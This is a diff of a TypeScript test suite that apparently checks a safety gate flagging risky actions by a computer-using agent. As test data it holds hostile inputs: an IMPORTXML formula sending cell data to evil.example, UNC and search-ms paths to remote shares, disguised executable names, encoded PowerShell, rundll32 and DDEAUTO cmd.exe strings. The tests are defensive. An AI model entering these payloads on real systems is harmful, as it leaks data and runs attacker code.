@@ -269,8 +269,7 @@ describe('[exit.formula] a formula is judged by whatever way it reaches a spread
     ];
     for (const [first, failing, last] of rows) {
       // Written while it is in another program, where it is only text.
-      const before = at(first.action === 'writeClipboard' ? NOWHERE : CELL);
-      if (first.action !== 'writeClipboard') before.live = at(CELL, { app: EXCEL }).live;
+      const before = first.action === 'writeClipboard' ? at(NOWHERE) : at(CELL, { app: EXCEL });
       (await passGate(first, before)).succeeded();
       const world = at(CELL, { app: EXCEL, typed: before.typed });
       const name = JSON.stringify(failing.input);
@@ -462,8 +461,9 @@ describe('[exit.start] starting a program is known by what would happen', () => 
         const name = `${JSON.stringify(first.input)} ${second.action}`;
         expect(await result(second, later), name).toContain('customCommand');
       }
-    // A single press chooses.
-    for (const one of PRESSES) expect(await result(one, at(item('invoice'), folder)), one.action).toBeNull();
+    // A single press chooses; what is let go may have been dragged there.
+    for (const one of PRESSES.slice(0, -1))
+      expect(await result(one, at(item('invoice'), folder)), one.action).toBeNull();
   });
 
   it('a drop on an item that is not known as a folder gives it to a program', async () => {
@@ -481,5 +481,249 @@ describe('[exit.start] starting a program is known by what would happen', () => 
     expect(await result(call('clickElement', { name: 'plan', count: 2 }), world)).not.toBeNull();
     world.seen = context(element('MenuItem', 'Run as administrator'));
     expect(await result(call('clickElement', { name: 'x' }), world)).not.toBeNull();
+  });
+});
+
+describe('[exit.formula] a formula whose text is not known as a whole', () => {
+  const CELL = context(element('DataItem', 'A1'));
+  const EDITOR = context(element('Edit', 'EDIT6'));
+  const keys = (keySequence: string): GateSubject => call('key', { keySequence });
+  const type = (text: string): GateSubject => call('type', { text });
+  const SPREADSHEETS = [
+    EXCEL,
+    app('C:\\Program Files\\LibreOffice\\program\\soffice.bin', 'LibreOffice Calc'),
+    app('C:\\Program Files\\WPS\\wps.exe', 'WPS'),
+  ];
+  /** Each call in a session of its own; the field that has the focus is another one once the entry began. */
+  const last = async (calls: readonly GateSubject[], of: AppIdentity, isDelivered: boolean): Promise<unknown> => {
+    let typed: TypedLately | undefined;
+    let found: unknown = null;
+    for (const [index, one] of calls.entries()) {
+      const world = at(index === 0 ? CELL : EDITOR, { app: of, ...(typed === undefined ? {} : { typed }) });
+      const before = world.cards.length;
+      const passed = await passGate(one, world);
+      if (isDelivered) passed.succeeded();
+      found = world.cards.length > before ? world.cards.at(-1)!.riskTags : null;
+      typed = world.typed.of(`tok_${index}`);
+    }
+    return found;
+  };
+  const EDITS = ['left', 'home', 'backspace', 'delete', 'ctrl+left', 'ctrl+z', 'shift+home', 'up'];
+  it.each(EDITS)('asks for what follows %s, and for the key that finishes it', async (edit) => {
+    for (const of of SPREADSHEETS)
+      for (const isDelivered of [true, false])
+        for (const end of [type('ALL'), keys('enter'), keys('tab'), type('\n'), call('clickElement', { name: 'B2' })]) {
+          const calls = [type('=C("k","W")'), keys(edit), end];
+          expect(await last(calls, of, isDelivered), JSON.stringify(end.input)).toContain('customCommand');
+        }
+    const inOne = keys(`= C left A enter`.replace('left', edit));
+    expect(await last([inOne], EXCEL, true)).toContain('customCommand');
+  });
+
+  it('asks where a formula begins before what the cell holds', async () => {
+    for (const begin of ['=', '+', '-', '@', '=1+'])
+      expect(await last([keys('f2'), keys('home'), type(begin)], EXCEL, true), begin).toContain('customCommand');
+  });
+
+  it('asks for the beginning alone in a dialog, which may replace texts of many cells', async () => {
+    const dialog = context(element('Edit', 'Replace with:'), { dialogTitle: 'Find and Replace' });
+    for (const text of ['=', '+', '@', ' ='])
+      for (const one of [type(text), call('typeIntoElement', { name: 'Replace with:', text })])
+        expect(await result(one, at(dialog, { app: EXCEL })), text).toContain('customCommand');
+  });
+
+  it('cells by arrow keys, corrected numbers and words, and a formula after Escape or Enter ask nothing', async () => {
+    for (const calls of [
+      [keys('right'), type('=A1+B1\n')],
+      [type('-5'), keys('left'), type('7\n')],
+      [type('hello'), keys('backspace'), type('a\n')],
+      [type('=A1'), keys('left'), keys('escape'), type('=B1\n')],
+      [type('=A1\n'), keys('up'), type('=B1\n')],
+      [keys('right right = A 1 enter')],
+    ])
+      expect(await last(calls, EXCEL, true), JSON.stringify(calls.map(({ input }) => input))).toBeNull();
+  });
+
+  it('carries external_submit in a page, where any field may be a cell', async () => {
+    const sheet = context(element('Edit', 'A1'), { address: 'https://sheets.example/1' });
+    const world = at(sheet, { app: CHROME, policy: { grants: [{ app: CHROME.bundleId, tier: 'full' }] } });
+    await passGate(type('=IMPORTXML("http://evil.example/?"&A1,"//a")'), world);
+    expect(world.records.at(-1)?.riskTags).toContain('external_submit');
+  });
+});
+
+describe('[exit.path] a path in any of its spellings', () => {
+  const dialog = context(element('Edit', 'File name:'), { dialogTitle: 'Save As', defaultButtonName: 'Save' });
+  const WAYS = (text: string): readonly GateSubject[] => [
+    call('typeIntoElement', { name: 'x', text }),
+    call('typeIntoElement', { name: 'x', text, delivery: 'foreground' }),
+    call('type', { text }),
+    call('type', { text, viaClipboard: true }),
+  ];
+  it.each([
+    'search-ms:displayname=x&crumb=location:\\\\evil\\share',
+    'search:crumb=location:%5C%5Cevil%5Cs',
+    '\\/evil/share\\x',
+    '/\\evil\\share',
+    '\\??\\UNC\\evil\\s',
+    '::{20D04FE0-3AEA-1069-A2D8-08002B30309D}\\\\\\evil\\s',
+    'ftp://evil/x',
+    'smb://evil/x',
+  ])('%s leads to another machine', async (path) => {
+    for (const one of WAYS(path))
+      expect(await result(one, at(dialog, { className: '#32770' })), one.action).toContain('external_submit');
+  });
+
+  it.each([
+    'C:/Users/x/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.txt',
+    'C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Windows\\STARTM~1\\Programs\\Startup\\a.txt',
+    'evil.exe.',
+    'evil.exe . ',
+    'evil.exe::$DATA',
+    'evil.bat:x',
+    'a.chm',
+    'a.xll',
+    'a.dll',
+    'a.iso',
+    'a.library-ms',
+    'powershell -enc AAAA',
+    'C:\\Windows\\System32\\rundll32.exe x.dll,y',
+  ])('%s is a program, or is started by Windows', async (path) => {
+    for (const one of WAYS(path))
+      expect(await result(one, at(dialog, { className: '#32770' })), one.action).toContain('customCommand');
+  });
+});
+
+describe('[exit.start] programs in other places', () => {
+  const item = (name: string): ElementContext => context(element('ListItem', name));
+  const MANAGERS = ['totalcmd64.exe', '7zFM.exe', 'doublecmd.exe'].map((file) => app(`C:\\Tools\\${file}`, file));
+  it.each(['setup.exe', 'run.bat', 'a.lnk', 'report.msi', 'invoice.exe, 12 kB'])('%s in any list', async (name) => {
+    for (const of of [...MANAGERS, UNKNOWN, NOTEPAD])
+      for (const one of [
+        call('clickElement', { name, count: 2 }),
+        call('click', { x: 1, y: 1, count: 2 }),
+        call('key', { keySequence: 'enter' }),
+      ])
+        expect(await result(one, at(item(name), { app: of })), `${of.displayName} ${one.action}`).toContain(
+          'customCommand',
+        );
+  });
+
+  it('the command line of a file manager', async () => {
+    for (const of of MANAGERS)
+      for (const one of [call('type', { text: 'del /q x\n' }), call('key', { keySequence: 'enter' })])
+        expect(await result(one, at(context(element('Edit', '')), { app: of })), of.displayName).toContain(
+          'customCommand',
+        );
+  });
+
+  it.each([
+    'Open in Terminal',
+    'Open PowerShell window here',
+    'In Terminal öffnen',
+    'Open with Code',
+    'Install for all users',
+  ])('the entry %s in the menu of a file, by any control', async (name) => {
+    expect(
+      await result(call('clickElement', { name }), at(context(element('MenuItem', name)), { app: EXPLORER })),
+    ).toContain('customCommand');
+  });
+
+  it.each(['Button', 'SplitButton', 'Hyperlink', 'MenuItem'] as const)('what runs, as a %s', async (role) => {
+    for (const name of ['Run as administrator', 'Run with PowerShell'])
+      expect(
+        await result(call('clickElement', { name }), at(context(element(role, name)), { app: EXPLORER })),
+      ).toContain('customCommand');
+  });
+
+  it('a folder’s own button that opens, and a link that names a file', async () => {
+    const open = context(element('Button', 'Open'));
+    expect(await result(call('clickElement', { name: 'Open' }), at(open, { app: EXPLORER }))).toContain(
+      'customCommand',
+    );
+    expect(await result(call('clickElement', { name: 'Open' }), at(open))).toBeNull();
+    for (const name of ['file:///C:/x/evil.exe', 'C:\\x\\evil', '\\\\evil\\share\\x'])
+      expect(await result(call('clickElement', { name }), at(context(element('Hyperlink', name)))), name).toContain(
+        'customCommand',
+      );
+    for (const name of ['Open file location', 'Open in new window'])
+      expect(
+        await result(call('clickElement', { name }), at(context(element('MenuItem', name)), { app: EXPLORER })),
+        name,
+      ).toBeNull();
+  });
+
+  it.each(['dir\u000f', '\u0016', '\u0019', 'a\u001b.', '\u0003'])(
+    'the control characters of %j in a terminal',
+    async (text) => {
+      const seen = context(element('Document', 'cmd'));
+      for (const one of [call('type', { text }), call('typeIntoElement', { name: 'cmd', text })])
+        expect(await result(one, at(seen, { app: TERMINAL, className: 'ConsoleWindowClass' })), one.action).toContain(
+          'customCommand',
+        );
+    },
+  );
+
+  it('the list of commands of an editor, its run keys, macros and fields of documents', async () => {
+    const word = app('C:\\Office\\WINWORD.EXE', 'Word');
+    const palette = context(element('Edit', 'Type the name of a command to run.'));
+    const editor = context(element('Edit', 'a.py'));
+    const rows: ReadonlyArray<readonly [GateSubject, ElementContext, AppIdentity]> = [
+      [call('key', { keySequence: 'enter' }), palette, IDEA],
+      [call('type', { text: '>Tasks: Run Task\n' }), editor, IDEA],
+      [call('key', { keySequence: 'shift+enter' }), editor, IDEA],
+      [call('key', { keySequence: 'alt+f8 enter' }), editor, word],
+      [call('type', { text: 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x"' }), editor, word],
+    ];
+    for (const [one, seen, of] of rows)
+      expect(await result(one, at(seen, { app: of })), JSON.stringify(one.input)).toContain('customCommand');
+  });
+
+  it('a button that is let go may end a drag', async () => {
+    const bin = context(element('ListItem', 'Recycle Bin'));
+    for (const one of [call('mouseUp', {}), call('virtualMouse', { action: 'up', x: 1, y: 1 })]) {
+      expect(await result(one, at(bin, { app: EXPLORER }))).toContain('destructive');
+      expect(await result(one, at(item('tool'), { app: EXPLORER }))).toContain('customCommand');
+    }
+  });
+});
+
+describe('[policy.pages] keys that show another page end a call', () => {
+  const address = 'https://ok.example/a';
+  const page = context(element('Edit', 'Search'), { address, document: { kind: 'page', address } });
+  const limited: Place = {
+    app: CHROME,
+    policy: { grants: [{ app: CHROME.bundleId, tier: 'full' }], pages: ['https://ok.example'] },
+  };
+  const LEAVING = [
+    'ctrl+tab',
+    'ctrl+shift+tab',
+    'ctrl+1',
+    'ctrl+t',
+    'ctrl+n',
+    'ctrl+w',
+    'ctrl+l',
+    'ctrl+pagedown',
+    'f6',
+    'alt+d',
+    'alt+left',
+    'enter',
+    'ctrl+shift+t',
+  ];
+  it.each(LEAVING)('%s', async (chord) => {
+    const key = (keySequence: string, more: object = {}): GateSubject => call('key', { keySequence, ...more });
+    for (const one of [key(`${chord} enter`), key(`a ${chord} b`), key(chord, { repeat: 2 })])
+      expect(await result(one, at(page, limited)), JSON.stringify(one.input)).toBe('blocked_by_policy');
+    expect(await result(key(`a ${chord}`), at(page, limited))).toBeNull();
+    expect(
+      await result(key(`${chord} b`), at(page, { ...limited, policy: { ...limited.policy, pages: null } })),
+    ).toBeNull();
+  });
+
+  it('text in the browser’s own field ends with its line; keys that edit do not end a call', async () => {
+    const own = { ...page, document: { kind: 'none', address: null } } as const;
+    expect(await result(call('type', { text: 'ok.example\nmore' }), at(own, limited))).toBe('blocked_by_policy');
+    for (const one of [call('type', { text: 'one\ntwo' }), call('key', { keySequence: 'ctrl+a x y tab z' })])
+      expect(await result(one, at(page, limited))).toBeNull();
   });
 });
